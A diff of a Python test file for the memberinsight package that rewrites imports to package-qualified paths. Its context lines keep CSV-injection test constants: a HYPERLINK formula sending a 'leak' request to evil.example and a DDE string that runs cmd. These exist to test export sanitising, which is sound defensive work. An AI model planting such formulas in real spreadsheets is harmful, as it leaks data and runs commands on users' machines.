@@ -15,12 +15,12 @@ import httpx
 import pytest
 from typer.testing import CliRunner
 
-from governance import EXPORT_COLUMNS, export_path
-from governance.export import export_slug, inside_folder
 from memberinsight.csvsafe import FORMULA_START, PHONE_NUMBER
 from memberinsight.errors import AuthError, DataValidationError
-from segments import SegmentDefinition
-from ui import callbacks as cb
+from memberinsight.governance import EXPORT_COLUMNS, export_path
+from memberinsight.governance.export import export_slug, inside_folder
+from memberinsight.segments import SegmentDefinition
+from memberinsight.ui import callbacks as cb
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak","open")'
 DDE = "+cmd|' /C calc'!A0"
@@ -62,8 +62,8 @@ def root(tmp_path_factory: pytest.TempPathFactory) -> Path:
 
 @pytest.fixture(scope="module")
 def ws(root: Path):
-    from workspace import Workspace
-    from workspace.users import add_user
+    from memberinsight.workspace import Workspace
+    from memberinsight.workspace.users import add_user
 
     ws = Workspace.create(root / "a" / "b" / "c" / "workspace")  # `../` runs stay inside root: we can see them
     with ws.analytics() as con:
@@ -77,7 +77,7 @@ def ws(root: Path):
 
 @pytest.fixture(scope="module")
 def services(ws):
-    from agent.services import Services
+    from memberinsight.agent.services import Services
     from memberinsight.config import load_settings
 
     return Services(ws, load_settings(workspace=ws.path))
@@ -221,7 +221,7 @@ def test_cli_default_name_goes_to_exports_and_needs_a_reason(ws, tmp_path: Path)
 def test_export_over_http_writes_only_inside_exports(ws, services, root: Path) -> None:
     import socket
 
-    from ui import launch
+    from memberinsight.ui import launch
 
     with socket.socket() as s:
         s.bind(("127.0.0.1", 0))
